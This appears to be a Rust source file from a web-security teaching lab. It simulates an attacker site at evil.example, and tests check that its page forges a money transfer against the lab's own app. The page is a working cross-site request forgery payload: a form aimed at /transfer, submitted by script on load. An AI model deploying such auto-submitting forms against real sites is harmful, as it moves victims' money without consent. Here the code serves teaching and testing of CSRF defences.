//! The attacker's site: a tiny static site at `http://evil.example/` that the lab serves
//! itself, beside the lesson's app, when [`crate::engine::lab::Lab::attacker_site`] is on (the
//! CSRF challenge, or whenever the attacker is on the page). Its one page holds a form aimed at
//! the app's `POST /transfer` and a script that submits it as soon as the page loads: the
//! classic cross-site request forgery. The browser sends that POST as a top-level navigation
//! whose initiator is this page, so the jar's SameSite rules decide whether the victim's
//! session cookie goes with it.

use super::server::http::{Request, Response};
use super::url::Url;

/// The attacker's host.
pub const HOST: &str = "evil.example";
/// The address of the attacker's page.
pub const URL: &str = "http://evil.example/";
/// Who the forged transfer pays.
pub const TO: &str = "mallory";
/// How much the forged transfer moves.
pub const AMOUNT: u32 = 50;

/// Whether a request to `url` goes to the attacker's site (any port, http or https).
pub fn serves(url: &Url) -> bool {
    url.host == HOST
}

/// The form's action: the app's transfer route on `localhost:<port>`, with its fields in the
/// query string (the app reads `req.query`, and a POST form keeps the query of its action).
pub fn action(app_port: u16) -> String {
    format!("http://localhost:{app_port}/transfer?to={TO}&amount={AMOUNT}")
}

/// The page, as the site sends it.
pub fn page(app_port: u16) -> String {
    let action = action(app_port).replace('&', "&amp;");
    format!(
        "<!DOCTYPE html>\n<html>\n<head>\n<meta charset=\"utf-8\">\n<title>{TITLE}</title>\n\
         </head>\n<body>\n<p>{CLAIMING}</p>\n\
         <form id=\"prize\" method=\"post\" action=\"{action}\">\n\
         <button type=\"submit\">{CLAIM}</button>\n</form>\n\
         <script>document.getElementById('prize').submit();</script>\n</body>\n</html>\n"
    )
}

/// The page's title.
pub const TITLE: &str = "恭喜你中奖了！";
/// The line the page shows while its script submits the form.
pub const CLAIMING: &str = "正在为你领取奖品……";
/// The form's button.
pub const CLAIM: &str = "领取奖品";

/// What the site answers, and the form its page submits by script once loaded (method and
/// absolute action), if it answered with the page.
pub fn respond(req: &Request, app_port: u16) -> (Response, Option<(String, String)>) {
    let page_asked = matches!(req.method.as_str(), "GET" | "HEAD") && req.pathname() == "/";
    let (status, content_type, body) = if page_asked {
        (200, "text/html; charset=utf-8", page(app_port))
    } else {
        (404, "text/plain; charset=utf-8", "Not Found".to_string())
    };
    let headers = vec![
        ("Content-Type".to_string(), content_type.to_string()),
        ("Content-Length".to_string(), body.len().to_string()),
    ];
    let body = if req.method == "HEAD" {
        String::new()
    } else {
        body
    };
    let submit =
        (page_asked && req.method == "GET").then(|| ("POST".to_string(), action(app_port)));
    (
        Response {
            status,
            headers,
            body,
        },
        submit,
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    fn req(method: &str, target: &str) -> Request {
        Request {
            method: method.into(),
            target: target.into(),
            headers: Vec::new(),
            encrypted: false,
        }
    }

    #[test]
    fn the_page_submits_its_form_to_the_apps_transfer() {
        let (res, submit) = respond(&req("GET", "/"), 8080);
        assert_eq!(res.status, 200);
        assert!(res
            .body
            .contains("action=\"http://localhost:8080/transfer?to=mallory&amp;amount=50\""));
        assert_eq!(
            res.header("content-length"),
            Some(res.body.len().to_string().as_str())
        );
        assert_eq!(
            submit,
            Some((
                "POST".into(),
                "http://localhost:8080/transfer?to=mallory&amount=50".into()
            ))
        );
        // HEAD gets the headers only, and nothing runs
        let (res, submit) = respond(&req("HEAD", "/"), 8080);
        assert_eq!((res.status, res.body.as_str(), submit), (200, "", None));
        // anything else is not there
        let (res, submit) = respond(&req("GET", "/other"), 8080);
        assert_eq!((res.status, submit), (404, None));
        let (res, _) = respond(&req("POST", "/"), 8080);
        assert_eq!(res.status, 404);
        assert!(serves(&Url::parse(URL).unwrap()));
        assert!(!serves(&Url::parse("http://localhost:8080/").unwrap()));
    }

    #[test]
    fn the_lab_serves_it_and_the_browser_submits_the_form_cross_site() {
        use crate::engine::events::{BrowserId, Cause, Event};
        use crate::engine::ids::SeededRandom;
        use crate::engine::lab::{Action, Lab, LabConfig, Navigate};
        use crate::engine::server::App;
        use crate::engine::store::MemoryKv;
        let mut lab = Lab::new(
            LabConfig::for_app(App::AuthFixed),
            1_700_000_000_000,
            Box::new(SeededRandom(1)),
            Box::<MemoryKv>::default(),
        )
        .unwrap();
        lab.only_own_origin = true;
        let visit =
            |lab: &mut Lab| lab.apply(Action::Navigate(Navigate::typed(BrowserId::Victim, URL)));
        // off: nobody answers at evil.example
        let o = visit(&mut lab);
        assert!(o.exchanges.is_empty());
        assert!(matches!(o.events[..], [Event::NavigationFailed { .. }]));
        lab.attacker_site = true;
        let login = "http://localhost:8080/login?username=alice";
        lab.apply(Action::Navigate(Navigate::typed(BrowserId::Victim, login)));
        let o = visit(&mut lab);
        let [page, post] = &o.exchanges[..] else {
            panic!("{:?}", o.exchanges.len())
        };
        assert_eq!((page.url.host.as_str(), page.response.status), (HOST, 200));
        assert!(page
            .events
            .iter()
            .any(|e| matches!(e, Event::AttackerSiteAnswered { status: 200, .. })));
        assert!(page
            .events
            .iter()
            .any(|e| matches!(e, Event::FormAutoSubmitted { .. })));
        assert_eq!(post.request.method, "POST");
        assert_eq!(post.url.to_string(), action(8080));
        assert_eq!(post.initiator.as_ref().map(|u| u.host.as_str()), Some(HOST));
        assert!(post.events.iter().any(|e| matches!(
            e,
            Event::RequestStarted {
                cause: Cause::AutoSubmit,
                ..
            }
        )));
        // just logged in: Chrome's two minutes let the cookie ride along, and money moved
        assert!(post.request.header("cookie").is_some());
        assert!(post.response.body.contains("卡上还剩：50"));
        // the browser ends on the app's answer, not on the attacker's page
        assert_eq!(lab.victim.url.as_ref().unwrap().path, "/transfer");
    }
}
